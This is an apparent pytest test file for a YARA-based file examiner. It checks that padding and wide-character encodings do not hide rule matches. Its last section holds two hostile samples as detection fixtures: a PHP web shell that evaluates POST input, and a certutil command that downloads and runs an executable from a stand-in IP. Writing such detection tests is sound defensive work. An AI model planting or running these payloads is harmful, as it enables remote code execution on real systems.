"""Files that were filled up or written with wide characters are matched as what runs them reads them."""

from __future__ import annotations

import random
from collections.abc import Callable
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st

from gate.examine.rules import RulesExaminer, read_rule_sources, readings
from gate.examine.rules.readings import SMALLEST_FILLED, other_readings
from gate.models import DetectionFact
from tests.examine.viewing import examined

RULES = read_rule_sources((Path(__file__).parents[3] / "yara-rules",))
BOUNDED = 'rule small { strings: $a = "begin" $b = "end" condition: filesize < 4KB and $a and $b }'
LARGE = 1 << 20
NOISE = random.Random(3).randbytes(LARGE)


@pytest.fixture(scope="module")
def small() -> RulesExaminer:
    examiner = RulesExaminer([("small.yar", BOUNDED)])
    examiner.start()
    return examiner


@pytest.fixture(scope="module")
def project() -> RulesExaminer:
    examiner = RulesExaminer(RULES.sources)
    examiner.start()
    return examiner


def names(examiner: RulesExaminer, data: bytes) -> list[str]:
    return [each.name for each in examined(examiner, data) if isinstance(each, DetectionFact)]


FILLINGS: dict[str, bytes] = {
    "zeros": bytes(LARGE),
    "newlines": b"\n" * LARGE,
    "line-ends": b"\r\n" * (LARGE // 2),
    "blanks": b" \t\n \t\t \n" * (LARGE // 8),
    "one-letter": b"#" + b"A" * LARGE,
    "comments": b"# nothing of note stands here\n" * (LARGE // 30),
    "two-comments": b"# one\n# two\n  # three\n" * (LARGE // 22),
    "ff": b"\xff" * LARGE,
}


@pytest.mark.parametrize("filling", FILLINGS.values(), ids=FILLINGS)
@pytest.mark.parametrize(
    "fill",
    [
        lambda filling: b"begin end\n" + filling,
        lambda filling: b"\n" + filling + b"\nbegin end\n",
        lambda filling: b"begin\n" + filling + b"\nend\n",
        lambda filling: filling + b"\nbegin\n" + filling + b"\nend" + filling,
    ],
    ids=["behind", "before", "between", "around"],
)
def test_filling_hides_nothing(small: RulesExaminer, filling: bytes, fill: Callable[[bytes], bytes]) -> None:
    data = fill(filling)
    assert names(small, data) == ["small"]
    [fact] = examined(small, data)
    assert isinstance(fact, DetectionFact)
    assert fact.detail.endswith("(without what fills it up)")
    assert names(small, data.replace(b"begin", b"start")) == []


def test_content_is_no_filling(small: RulesExaminer) -> None:
    assert names(small, b"begin end\n" + NOISE) == []
    lines = b"".join(b"line %d\n" % number for number in range(100_000))
    assert names(small, b"begin end\n" + lines) == []
    assert list(other_readings(b"begin end\n" + bytes(SMALLEST_FILLED // 2))) == []


@given(st.binary(min_size=1, max_size=200), st.integers(0, 255), st.integers(0, 5000))
def test_whatever_is_not_filling_is_kept(content: bytes, filler: int, before: int) -> None:
    data = bytes([filler]) * before + b"<" + content + b">" + bytes([filler]) * (2 * SMALLEST_FILLED)
    [reading] = other_readings(data)
    if b"\n" not in content:
        assert b"<" + content + b">" in reading.data
    assert len(reading.data) < 4096


def test_a_reading_is_bounded(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(readings, "LARGEST", 100_000)
    assert list(other_readings(NOISE[:200_000] + bytes(LARGE))) == []
    assert list(other_readings(b"\xff\xfe" + "a".encode("utf-16-le") * 60_000)) == []


def test_a_rule_that_matches_both_counts_once(small: RulesExaminer, project: RulesExaminer) -> None:
    examiner = RulesExaminer(
        [("each.yar", 'rule each { strings: $a = "begin" condition: $a }'), ("small.yar", BOUNDED)]
    )
    examiner.start()
    assert names(examiner, b"begin end" + bytes(LARGE)) == ["each", "small"]
    assert names(project, bytes(LARGE)) == names(small, bytes(LARGE)) == []


# --- characters of more than one byte ----------------------------------------------------------------------------

SHELL = "<?php @ev" + "al($_POST['x']); ?>\n"
COMMAND = "certutil -url" + "cache -split -f http://198.51.100.7/a.exe a.exe & a.exe\r\n"
ENCODINGS = ["utf-16", "utf-16-be", "utf-32", "utf-32-be"]
BOM = "\ufeff"


def in_encoding(text: str, encoding: str) -> bytes:
    return (text if encoding in {"utf-16", "utf-32"} else BOM + text).encode(encoding)


@pytest.mark.parametrize("encoding", ENCODINGS)
@pytest.mark.parametrize("script", [SHELL, COMMAND])
def test_wide_text_is_matched_as_what_it_says(project: RulesExaminer, encoding: str, script: str) -> None:
    plain = names(project, script.encode())
    assert plain
    assert set(names(project, in_encoding(script, encoding))) >= set(plain)
    assert set(names(project, in_encoding(script + "\n" * LARGE, encoding))) >= set(plain)
    assert names(project, in_encoding("<?php echo 'hello'; ?>\r\n", encoding)) == []


@given(st.sampled_from(ENCODINGS), st.binary(max_size=200))
def test_broken_wide_text_never_raises(encoding: str, tail: bytes) -> None:
    assert len(list(other_readings(in_encoding("a", encoding) + tail))) == 1
